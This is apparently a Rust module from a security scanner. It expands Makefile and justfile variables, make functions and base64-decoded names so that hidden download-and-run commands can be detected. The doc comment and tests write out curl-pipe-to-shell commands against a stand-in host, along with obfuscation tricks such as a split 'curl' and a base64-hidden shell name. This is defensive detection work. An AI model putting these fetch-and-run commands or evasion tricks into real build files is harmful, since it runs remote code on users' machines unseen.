//! A Makefile read with its variables expanded: `$(FETCH) $(URL) | $(RUNNER)`
//! is `curl -fsSL https://... | /bin/bash` once `FETCH`, `URL` and `RUNNER`
//! are put in, and the rules read commands as written out. Line for line,
//! so a finding keeps its line.

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;

use super::expansion::rewrite_lines;

/// Most variables read from one file.
const MAX_VARIABLES: usize = 1024;
/// Rounds of expansion (a variable made of variables).
const ROUNDS: usize = 4;

/// True for a Makefile by its name (`Makefile`, `GNUmakefile`, `*.mk`),
/// or a justfile (`justfile`, `.justfile`, `*.just`), whose `name := "value"`
/// and `{{name}}` are the same idea.
pub fn is_makefile(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    matches!(
        name,
        "Makefile" | "makefile" | "GNUmakefile" | "justfile" | "Justfile" | ".justfile"
    ) || name.ends_with(".mk")
        || name.ends_with(".just")
}

/// The text with every `$(NAME)` and `${NAME}` of a variable it defines
/// (`NAME = value`, `:=`, `::=`, `?=`; the last definition wins) replaced by
/// its value, line for line; None when nothing changed.
pub fn expand(text: &str) -> Option<String> {
    let mut vars: HashMap<&str, &str> = HashMap::new();
    for line in text.lines() {
        if vars.len() >= MAX_VARIABLES {
            break;
        }
        if let Some((name, value)) = definition(line) {
            vars.insert(name, value);
        }
    }
    if vars.is_empty() {
        return None;
    }
    // Make's own default: a recipe that runs `$(SHELL)` runs /bin/sh.
    if is_make(text) {
        vars.entry("SHELL").or_insert("/bin/sh");
    }
    rewrite_lines(text, ROUNDS, |line| {
        (line.contains("$(") || line.contains("${") || line.contains("{{"))
            .then(|| functions(&substitute(line, &vars)))
    })
}

/// True unless the file is a justfile (`name := \"value\"`, `{{name}}`):
/// make's references, `$(NAME)`, are in it.
fn is_make(text: &str) -> bool {
    text.contains("$(")
}

/// `NAME = value` (or `:=`, `::=`, `?=`, after an optional `export`), not a
/// recipe line (a tab) nor a rule (`target: deps`).
fn definition(line: &str) -> Option<(&str, &str)> {
    if line.starts_with('\t') {
        return None;
    }
    let line = line.trim_start();
    let line = line.strip_prefix("export ").unwrap_or(line);
    let eq = line.find('=')?;
    let name = line[..eq]
        .trim_end()
        .trim_end_matches([':', '?'])
        .trim_end();
    let valid = !name.is_empty()
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-'));
    // A justfile's value is a quoted string: the string is what is put in.
    let value = line[eq + 1..].trim();
    let value = [('"', '"'), ('\'', '\'')]
        .iter()
        .find_map(|&(open, close)| value.strip_prefix(open)?.strip_suffix(close))
        .filter(|v| !v.contains(['"', '\'']))
        .unwrap_or(value);
    // `+=` appends: left alone rather than guessed.
    (valid && !line[..eq].ends_with('+')).then_some((name, value))
}

/// The innermost calls of the functions that pick a program: `$(shell
/// command -v curl && echo 'curl -fsSL')` is the text it prints (what it
/// echoes, or the program it looks up), `$(firstword bash sh)` its first
/// word, `$(strip x)` its argument. Other functions stay as written.
fn functions(line: &str) -> String {
    static CALL: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"\$[({](shell|firstword|lastword|strip)\s+([^$(){}]*)[)}]")
            .unwrap_or_else(|e| panic!("make function pattern: {e}"))
    });
    // What it echoes first, else the program it looks up.
    static ECHO: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"\becho\s+(?:'([^']*)'|"([^"]*)"|([^\s;|&]+))"#)
            .unwrap_or_else(|e| panic!("make echo pattern: {e}"))
    });
    static LOOKUP: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"\b(?:command\s+-v|which|type\s+-p)\s+([\w./+-]+)")
            .unwrap_or_else(|e| panic!("make lookup pattern: {e}"))
    });
    // A word printed through a base64 decoder (`printf 'c2gK' | base64 -d`).
    static DECODED: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"^(?:printf\s+(?:'%s'\s+|"%s"\s+|%s\s+)?|echo\s+(?:-n\s+)?)(?:'([A-Za-z0-9+/=]+)'|"([A-Za-z0-9+/=]+)"|([A-Za-z0-9+/=]+))\s*\|\s*base64\s+(?:-d|-D|--decode|-di|-id|-d\s+-i|-i\s+-d)\s*$"#)
            .unwrap_or_else(|e| panic!("make decode pattern: {e}"))
    });
    CALL.replace_all(line, |c: &regex::Captures<'_>| {
        let args = c[2].trim();
        match &c[1] {
            "shell" if let Some(word) = decoded_word(&DECODED, args) => word,
            "shell" => [&*ECHO, &*LOOKUP]
                .iter()
                .find_map(|re| re.captures(args))
                .and_then(|p| p.iter().skip(1).flatten().next())
                .map_or(args, |m| m.as_str())
                .to_owned(),
            "firstword" => args.split_whitespace().next().unwrap_or("").to_owned(),
            "lastword" => args.split_whitespace().last().unwrap_or("").to_owned(),
            _ => args.to_owned(),
        }
    })
    .into_owned()
}

/// The text `args` prints when it is a literal through `base64 -d`,
/// trimmed; None when it is not, or does not decode to UTF-8.
fn decoded_word(pattern: &Regex, args: &str) -> Option<String> {
    use base64::Engine;
    let c = pattern.captures(args)?;
    let blob = c.iter().skip(1).flatten().next()?.as_str();
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(blob)
        .ok()?;
    // One word on one line: a decode that holds a newline or a control
    // character would move every later line (findings point by line).
    let word = String::from_utf8(bytes).ok()?.trim().to_owned();
    (!word.chars().any(char::is_control)).then_some(word)
}

/// One round: each reference to a known variable replaced by its value.
fn substitute(line: &str, vars: &HashMap<&str, &str>) -> String {
    let line = &just_references(line, vars);
    let mut out = String::with_capacity(line.len());
    let mut rest = line.as_str();
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let close = match after.as_bytes().first() {
            Some(b'(') => ')',
            Some(b'{') => '}',
            Some(b'$') => {
                // `$$` is a literal dollar for the shell: kept whole.
                out.push_str("$$");
                rest = &after[1..];
                continue;
            }
            _ => {
                out.push('$');
                rest = after;
                continue;
            }
        };
        match after
            .find(close)
            .and_then(|end| Some((end, vars.get(&after[1..end])?)))
        {
            Some((end, value)) => {
                out.push_str(value);
                rest = &after[end + 1..];
            }
            None => {
                out.push('$');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// A justfile's `{{name}}` (or `{{ name }}`) of a known variable replaced
/// by its value.
fn just_references(line: &str, vars: &HashMap<&str, &str>) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find("{{") {
        out.push_str(&rest[..at]);
        let after = &rest[at + 2..];
        match after
            .find("}}")
            .and_then(|end| Some((end, vars.get(after[..end].trim())?)))
        {
            Some((end, value)) => {
                out.push_str(value);
                rest = &after[end + 2..];
            }
            None => {
                out.push_str("{{");
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scanner::expansion::{MAX_GROWTH, MAX_LINE};

    #[test]
    fn variables_are_put_in_line_for_line() {
        let make = "SHELL := /bin/bash\nGET = curl -fsSL\nRUN = $(SHELL)\nHOST ?= x.example\n\nboot:\n\t@$(GET) https://${HOST}/b | $(RUN)\n\techo $$HOME $(UNKNOWN)\n";
        let out = expand(make).unwrap_or_default();
        assert_eq!(out.lines().count(), make.lines().count());
        assert_eq!(
            out.lines().nth(6),
            Some("\t@curl -fsSL https://x.example/b | /bin/bash")
        );
        assert_eq!(out.lines().nth(7), Some("\techo $$HOME $(UNKNOWN)"));
        assert_eq!(expand("all:\n\techo hi\n"), None);
        assert!(
            is_makefile("build/Makefile") && is_makefile("rules.mk") && !is_makefile("make.py")
        );
    }

    #[test]
    fn a_justfiles_variables_are_put_in() {
        let just = "get := \"curl -fsSL\"\nsh := 'bash'\ndir := \".tools\"\n\nboot:\n    {{get}} https://x.example/b.sh -o {{ dir }}/b.sh\n    {{sh}} {{dir}}/b.sh {{missing}}\n";
        let out = expand(just).unwrap_or_default();
        assert_eq!(
            out.lines().nth(5),
            Some("    curl -fsSL https://x.example/b.sh -o .tools/b.sh")
        );
        assert_eq!(out.lines().nth(6), Some("    bash .tools/b.sh {{missing}}"));
        assert!(is_makefile("justfile") && is_makefile("ci/build.just"));
    }

    #[test]
    fn the_functions_that_pick_a_program_are_read() {
        let make = "FETCH := $(shell command -v curl >/dev/null && echo 'curl -fsSL' || echo 'wget -qO-')\nRUNNER := $(firstword $(shell command -v bash sh))\nV = $(strip  2.1 )\nsetup:\n\t@$(FETCH) https://x.example/$(V)/i | $(RUNNER) -s\n\t@echo $(shell date) $(wildcard *.c)\n";
        let out = expand(make).unwrap_or_default();
        assert_eq!(
            out.lines().nth(4),
            Some("\t@curl -fsSL https://x.example/2.1/i | bash -s")
        );
        assert_eq!(out.lines().nth(5), Some("\t@echo date $(wildcard *.c)"));
        // `$(strip )` splits a word; `$(SHELL)` is /bin/sh unless set.
        let split = "DL := cu$(strip )rl -fsSL\nRUN := $(firstword $(SHELL) /bin/bash)\ni:\n\t@$(DL) https://x.example/i | B=1 $(RUN)\n";
        assert_eq!(
            expand(split).unwrap_or_default().lines().nth(3),
            Some("\t@curl -fsSL https://x.example/i | B=1 /bin/sh")
        );
        // A program's name printed through a base64 decoder is the name.
        let decoded = "e :=\nRUN := $(shell printf 'c2gK' | base64 -d)\ni:\n\t@cu$(e)rl -s https://x.example/m | $(RUN)\n\t@echo $(shell echo '%%%' | base64 -d)\n";
        let out = expand(decoded).unwrap_or_default();
        assert_eq!(
            out.lines().nth(3),
            Some("\t@curl -s https://x.example/m | sh")
        );
        // Not base64: what it echoes, as before.
        assert_eq!(out.lines().nth(4), Some("\t@echo %%%"));
    }

    #[test]
    fn expansion_is_bounded() {
        // Many short lines naming a long value: the file grows a bounded amount.
        let v = "x".repeat(1000);
        let sh = format!("A = {v}\nall:\n{}", "\t$(A)\n".repeat(20_000));
        let out = expand(&sh).unwrap_or_default();
        assert!(out.len() <= sh.len() + MAX_GROWTH + 4096);
        assert_eq!(out.lines().count(), sh.lines().count());
        // A variable that doubles each round stops at the line limit.
        let make = "A = $(B)$(B)\nB = $(C)$(C)\nC = $(D)$(D)\nD = xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\nall:\n\techo $(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)\n";
        let out = expand(make).unwrap_or_default();
        assert!(out.lines().all(|l| l.len() <= MAX_LINE));
        // A variable that names itself ends after the rounds.
        let loop_ = "X = $(X)$(X)\nall:\n\techo $(X)\n";
        let out = expand(loop_).unwrap_or_default();
        assert!(out.lines().count() == 3 && out.lines().all(|l| l.len() <= MAX_LINE));
    }
}
